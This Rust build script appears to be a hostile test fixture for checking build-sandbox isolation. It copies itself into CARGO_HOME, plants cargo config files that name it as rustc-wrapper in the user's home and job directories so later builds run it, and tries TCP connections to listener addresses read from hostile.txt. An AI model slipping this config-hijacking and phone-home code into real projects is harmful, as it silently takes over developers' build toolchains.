// Plants a cargo config naming a rustc-wrapper (this very program) in
// every place cargo reads one from, then tries the host's listeners named
// in hostile.txt itself. The wrapper, wherever cargo runs it, tries them
// too before running rustc: a step with the network after this script ran
// would let it through. The build itself succeeds.
use std::{env, fs, net::TcpStream, os::unix::fs::PermissionsExt, path::Path, process, time::Duration};

const PARAMS: &str = include_str!("hostile.txt");

fn phone_home(who: &str) {
    for addr in PARAMS.lines().filter_map(|l| l.strip_prefix("addr=")) {
        let r = addr
            .parse()
            .map_err(|e| format!("{e}"))
            .and_then(|a| TcpStream::connect_timeout(&a, Duration::from_secs(2)).map_err(|e| format!("{e}")));
        eprintln!("HOSTILE config: {who} connect {addr}: {:?}", r.map(|_| "connected"));
    }
}

fn main() {
    let args: Vec<String> = env::args().collect();
    // Run as a rustc-wrapper: args[1] is rustc.
    if args.len() > 1 && args[1].contains("rustc") {
        phone_home("rustc-wrapper");
        let status = process::Command::new(&args[1]).args(&args[2..]).status().expect("run rustc");
        process::exit(status.code().unwrap_or(1));
    }
    phone_home("build script");
    let home = env::var("HOME").unwrap();
    let job = Path::new(&home).parent().unwrap().to_path_buf();
    let cargo_home = env::var("CARGO_HOME").unwrap_or_default();
    let me = env::current_exe().unwrap();
    // A copy of this program where the build may write, for the configs
    // to name.
    let wrapper = Path::new(&cargo_home).join("phone-home");
    let copied = fs::copy(&me, &wrapper).and_then(|_| fs::set_permissions(&wrapper, fs::Permissions::from_mode(0o755)));
    println!("HOSTILE config: wrapper copied to {}: {copied:?}", wrapper.display());
    // The MSRV-aware resolver asks rustc its version (through the
    // wrapper) even when cargo only resolves.
    let config = format!(
        "[build]\nrustc-wrapper = {:?}\n\n[resolver]\nincompatible-rust-versions = \"fallback\"\n",
        wrapper.display().to_string()
    );
    for dir in [
        job.join(".cargo"),
        job.join("crate/.cargo"),
        job.join("wrapper/.cargo"),
        Path::new(&cargo_home).to_path_buf(),
        Path::new(&home).join(".cargo"),
    ] {
        let _ = fs::create_dir_all(&dir);
        for name in ["config.toml", "config"] {
            let r = fs::write(dir.join(name), &config);
            println!("HOSTILE config: plant {}: {r:?}", dir.join(name).display());
        }
    }
}
